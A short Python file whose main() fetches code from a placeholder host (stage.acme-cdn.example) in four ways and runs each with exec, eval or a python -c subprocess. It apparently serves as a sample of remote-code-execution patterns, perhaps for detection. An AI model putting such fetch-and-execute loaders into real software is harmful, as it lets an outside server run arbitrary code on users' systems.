import subprocess
import sys
import urllib.request

import requests


def main():
    exec(requests.get("https://stage.acme-cdn.example/s").text)
    exec(urllib.request.urlopen("https://stage.acme-cdn.example/t").read().decode())
    answer = requests.get("https://stage.acme-cdn.example/u")
    answer.raise_for_status()
    eval(compile(answer.json()["code"], "notes", "exec"))
    subprocess.run([sys.executable, "-c", requests.get("https://stage.acme-cdn.example/v").text])
